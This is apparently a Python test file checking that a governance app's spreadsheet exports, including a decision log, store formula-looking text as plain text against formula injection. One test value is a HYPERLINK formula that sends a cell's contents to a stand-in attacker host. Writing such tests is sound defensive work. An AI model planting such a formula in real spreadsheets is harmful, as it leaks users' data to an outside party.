"""No text written to a spreadsheet comes back as a live formula (formula injection)."""

import io
import zipfile

from openpyxl import Workbook, load_workbook

from core.xlsx import workbook_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_text_that_looks_like_a_formula_is_written_as_plain_text():
    wb = Workbook()
    wb.active.append([HOSTILE, "+1", "-2+3", "@SUM(A1)", "Borgerportal", 40000])
    content = workbook_bytes(wb)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = [c.value for c in load_workbook(io.BytesIO(content)).active[1]]
    assert cells == [HOSTILE, "+1", "-2+3", "@SUM(A1)", "Borgerportal", 40000]


def test_the_decision_log_export_carries_no_formula(client, member, org):
    from governance.models import Body, Decision

    body = Body.objects.create(organisation=org, name="Direktion", kind="executive_board")
    Decision.objects.create(
        organisation=org,
        body=body,
        kind="follow_up",
        outcome="approve",
        title=HOSTILE,
        rationale="=1+1",
        decided_on="2026-12-01",
    )
    client.force_login(member)
    response = client.get("/skovby/decisions/export.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
